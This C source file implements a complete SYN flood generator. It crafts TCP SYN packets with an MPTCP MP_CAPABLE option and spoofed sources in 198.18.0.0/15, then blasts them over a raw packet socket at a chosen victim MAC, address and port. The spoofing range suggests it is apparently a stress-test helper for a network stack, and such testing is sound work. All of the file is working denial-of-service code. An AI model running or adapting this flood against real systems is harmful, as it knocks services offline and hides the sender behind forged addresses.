// SPDX-License-Identifier: GPL-2.0
/*
 * A SYN flood: SYNs with MP_CAPABLE from addresses that never answer, from a packet socket.
 *
 *	flood INTERFACE VICTIM-MAC VICTIM-ADDRESS PORT SECONDS
 *
 * The sources are 198.18.0.0/15, each with another port, sequence number and key space.
 * Ends with `flood: sent N`.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "packet.h"

enum { TCP_OFFSET = 20, OPTIONS = 40, TOTAL = 48 };

/* The nth SYN, in `ip`, which holds the destination. */
static void make_syn(uint8_t *ip, uint16_t port, uint32_t n)
{
	/* MSS 1460; MP_CAPABLE, version 1, HMAC-SHA256. */
	static const uint8_t options[8] = { 2, 4, 5, 180, 30, 4, 1, 1 };
	uint8_t *tcp = ip + TCP_OFFSET;

	big(ip + 12, 0xc6120000 | (n * 2654435761u >> 15), 4);
	big(ip + 10, 0, 2);
	big(ip + 10, fold(sum(ip, TCP_OFFSET, 0)), 2);
	big(tcp, 1024 + n % 60000, 2);
	big(tcp + 2, port, 2);
	big(tcp + 4, n * 2246822519u, 4);
	tcp[12] = (OPTIONS - TCP_OFFSET + sizeof(options)) / 4 << 4;
	tcp[13] = 2;
	big(tcp + 14, 60000, 2);
	memcpy(ip + OPTIONS, options, sizeof(options));
	big(tcp + 16, 0, 2);
	big(tcp + 16, fold(sum(tcp, TOTAL - TCP_OFFSET, sum(ip + 12, 8, 6 + TOTAL - TCP_OFFSET))), 2);
}

int main(int argc, char **argv)
{
	struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6 };
	uint8_t ip[TOTAL] = { 0x45, [3] = TOTAL, [8] = 64, [9] = 6 };
	unsigned long sent = 0;
	time_t end;
	int fd;

	if (argc != 6 || inet_pton(AF_INET, argv[3], ip + 16) != 1 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &link.sll_addr[0], &link.sll_addr[1],
		   &link.sll_addr[2], &link.sll_addr[3], &link.sll_addr[4], &link.sll_addr[5]) != 6) {
		fprintf(stderr, "usage: flood INTERFACE VICTIM-MAC VICTIM-ADDRESS PORT SECONDS\n");
		return 2;
	}
	link.sll_ifindex = (int)if_nametoindex(argv[1]);
	fd = socket(AF_PACKET, SOCK_DGRAM, 0);
	if (fd < 0 || !link.sll_ifindex) {
		perror("flood");
		return 1;
	}
	end = time(NULL) + atoi(argv[5]);
	while (time(NULL) < end) {
		make_syn(ip, (uint16_t)atoi(argv[4]), (uint32_t)sent);
		if (sendto(fd, ip, sizeof(ip), 0, (struct sockaddr *)&link, sizeof(link)) == sizeof(ip)) {
			sent++;
		} else if (errno != ENOBUFS) {
			perror("flood: sendto");
			return 1;
		}
	}
	printf("flood: sent %lu\n", sent);
	return sent == 0;
}
